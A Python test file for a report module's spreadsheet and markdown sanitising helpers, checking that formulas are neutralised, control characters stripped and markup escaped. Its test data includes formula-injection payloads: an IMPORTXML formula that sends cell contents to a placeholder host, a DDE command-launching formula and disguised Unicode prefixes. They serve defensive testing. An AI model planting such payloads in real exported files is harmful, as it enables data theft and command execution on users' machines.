from __future__ import annotations

import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from capacity.report.cells import aligned, escaped, neutral, printable, restored, wrapped

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1",
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")', "\u00ad=1+1", "\uff1d1+1", "\uff0b1+1",
    "\uff0d1", "\uff20SUM(1)", " =1+1", "\u00a0=1", "\u200b=1", '" =1+1', "';=1+1", "'=1", "''=1",
    ";=1+1", ",=1", "=cmd|' /C calc'!A0", "\ufeff=1", "|calc",
]  # fmt: skip
PLAIN = ["reported-case", "p4d.24xlarge TP2 fp16", "5 % of it", "a=b", "3+4", "n@m", "", "(x)"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    assert neutral(text).startswith("'")
    assert restored(neutral(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert neutral(text) == text


@given(st.text())
def test_every_text_comes_back(text: str) -> None:
    assert restored(neutral(text)) == text


@given(st.text())
def test_no_cell_begins_with_a_sign_of_a_formula(text: str) -> None:
    visible = neutral(text).lstrip()
    assert unicodedata.normalize("NFKC", visible)[:1] not in set("=+-@")


@given(st.text())
def test_printable_text_has_no_control_character(text: str) -> None:
    kinds = {unicodedata.category(sign) for sign in printable(text)}
    assert kinds.isdisjoint({"Cc", "Cf", "Cs", "Zl", "Zp"})


@given(st.text())
def test_printing_twice_changes_nothing_more(text: str) -> None:
    assert printable(printable(text)) == printable(text)


@given(st.text(alphabet="![]()<>*_`$:#~|{}\\&-+. abc", max_size=60))
def test_nothing_in_escaped_text_is_markup(text: str) -> None:
    naked = re.sub(r"\\.", "", escaped(text))
    assert not set(naked) & set("![]()<>*_`$:#~|{}")


def test_escaping_loses_nothing() -> None:
    text = "Order 12 nodes at $2.0 M (80 % of $3 M), see [x](y)"
    shown = re.sub(r"\\(.)", r"\1", escaped(text))
    assert shown.replace("\N{NO-BREAK SPACE}", " ") == text
    assert shown.count("\N{NO-BREAK SPACE}") == 3  # no line breaks inside 2.0 M, 80 %, 3 M


def test_a_long_word_stays_whole() -> None:
    assert wrapped("x " + "y" * 150).splitlines() == ["x", "y" * 150]


def test_columns_line_up() -> None:
    lines = aligned([["a", "1"], ["bcd", "234"]]).splitlines()
    assert lines == ["a      1", "bcd  234"]
